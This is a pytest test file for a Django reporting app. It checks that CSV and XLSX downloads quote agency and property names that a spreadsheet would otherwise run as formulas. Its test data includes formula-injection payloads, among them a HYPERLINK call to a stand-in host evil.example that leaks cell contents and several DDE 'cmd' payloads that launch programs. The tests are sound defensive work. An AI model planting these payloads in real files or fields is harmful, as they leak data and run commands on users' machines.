"""Names people type (a referring agency, a property) come back in report downloads: a cell a
spreadsheet would run as a formula is quoted in CSV and kept as quoted text in XLSX, and the
counts beside it stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accommodation import services as accommodation_services
from accommodation.models import Property, Unit
from carepath import exports
from carepath.people.models import Role
from carepath.reporting import rendering
from carepath.reporting.tables import LABEL, Column, Table
from tests.factories import CaseFactory, ReferringAgencyFactory

JANUARY = {"from": "2026-01-01", "to": "2026-01-31"}
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+44 Police Scotland",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed Agency",
    "\rCarriage Agency",
]


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _sheet(response, title):
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    return load_workbook(io.BytesIO(response.content))[exports.sheet_title(title)]


@pytest.fixture
def agencies(team_a, manager_a):
    """One January referral from each agency with a dangerous name, two from a plain one."""
    for number, name in enumerate(DANGEROUS, start=1):
        CaseFactory(
            team=team_a,
            by=manager_a,
            referral_date=datetime.date(2026, 1, number),
            referring_agency=ReferringAgencyFactory(name=name),
        )
    plain = ReferringAgencyFactory(name="Plain Agency")
    for day in (20, 21):
        CaseFactory(
            team=team_a,
            by=manager_a,
            referral_date=datetime.date(2026, 1, day),
            referring_agency=plain,
        )


def test_agency_names_are_neutralised_in_the_nrm_csv_download(client, manager_a, agencies):
    client.force_login(manager_a)
    response = client.get(
        reverse("reports:detail", args=["nrm"]),
        {**JANUARY, "format": "csv", "table": "by_referring_agency"},
    )
    rows = _csv(response)
    by_agency = {row[0]: row[1:] for row in rows[1:]}
    for name in DANGEROUS:
        assert name not in by_agency
        counts = by_agency["'" + name]
        # The counts beside a quoted name are plain numbers: one referral each.
        assert counts[-1] == "1"
        assert all(cell.isdigit() for cell in counts)
    assert by_agency["Plain Agency"][-1] == "2"
    # Nothing in the file starts like a formula.
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t"))]


def test_agency_names_are_neutralised_in_the_nrm_xlsx_download(client, manager_a, agencies):
    client.force_login(manager_a)
    response = client.get(reverse("reports:detail", args=["nrm"]), {**JANUARY, "format": "xlsx"})
    title = client.get(reverse("reports:detail", args=["nrm"]), JANUARY).context["report"]
    sheet = _sheet(response, title.table("by_referring_agency").title)
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name in DANGEROUS:
        # XML reads a carriage return back as a line feed.
        row = cells[name.replace("\r", "\n")]
        # Stored as text with Excel's quote prefix (a typed "'=..."), never as a formula.
        assert row[0].data_type == "s" and row[0].quotePrefix
        assert isinstance(row[-1].value, int) and row[-1].value == 1
        assert row[-1].data_type == "n"
    assert not cells["Plain Agency"][0].quotePrefix
    assert all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value is not None
    )


@pytest.fixture
def risky_property(make_user, org_a):
    manager = make_user(org_a, Role.ACCOMMODATION_MANAGER, username="am.formula")
    prop = accommodation_services.property_save(
        by=manager,
        prop=Property(
            name="=cmd|' /C calc'!A0",
            kind="refuge",
            address="1 Hidden Lane",
            postcode="G40 1AA",
            local_authority="@Glasgow City",
            region="West of Scotland",
        ),
    )
    accommodation_services.unit_save(
        by=manager, unit=Unit(property=prop, name="Main", women_only=True), bed_spaces=2
    )
    return prop


def test_a_property_name_is_neutralised_in_the_accommodation_downloads(
    client, manager_a, risky_property
):
    client.force_login(manager_a)
    url = reverse("reports:detail", args=["accommodation"])
    rows = _csv(client.get(url, {**JANUARY, "format": "csv", "table": "occupancy"}))
    [row] = [row for row in rows if "cmd|" in row[0]]
    assert row[0] == "'=cmd|' /C calc'!A0"
    assert "'@Glasgow City" in row
    assert "@Glasgow City" not in row

    report = client.get(url, JANUARY).context["report"]
    sheet = _sheet(client.get(url, {**JANUARY, "format": "xlsx"}), report.table("occupancy").title)
    [cells] = [r for r in sheet.iter_rows(min_row=2) if "cmd|" in str(r[0].value)]
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    numbers = [cell for cell in cells if isinstance(cell.value, int | float)]
    assert numbers and all(cell.data_type == "n" for cell in numbers)


@pytest.mark.parametrize("text", DANGEROUS + ["=1+1", "+1", "-1", "@x", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_quoted(text):
    assert exports.looks_like_formula(text)
    assert exports.formula_safe(text) == "'" + text
    assert exports.csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, as_csv",
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-12.50"), "-12.50"),
        (0, "0"),
        ("Plain text", "Plain text"),
        ("A-1 = B", "A-1 = B"),
        ("", ""),
        (None, ""),
    ],
)
def test_numbers_and_ordinary_text_are_left_alone(value, as_csv):
    assert not exports.looks_like_formula(value)
    assert exports.csv_cell(value) == as_csv
    if value is not None and not isinstance(value, str):
        assert exports.formula_safe(value) == value


def test_a_multi_table_csv_quotes_titles_headings_and_cells(db):
    table = Table(
        key="t",
        title="=Title",
        columns=[Column("name", "-Heading", LABEL), Column("count", "Count")],
        rows=[{"name": "@Name", "count": -3}],
    )
    other = Table(key="u", title="Plain", columns=[Column("name", "Name", LABEL)], rows=[])
    text = rendering.as_csv([table, other]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["'=Title"]
    assert rows[1] == ["'-Heading", "Count"]
    assert rows[2] == ["'@Name", "-3"]


def test_an_xlsx_cell_with_characters_xml_cannot_hold_is_checked_after_they_go():
    content = exports.workbook_bytes([("Sheet", ["Name", "Count"], [["\x01=1+1", -4]])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "=1+1"
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].value == -4 and sheet["B2"].data_type == "n"
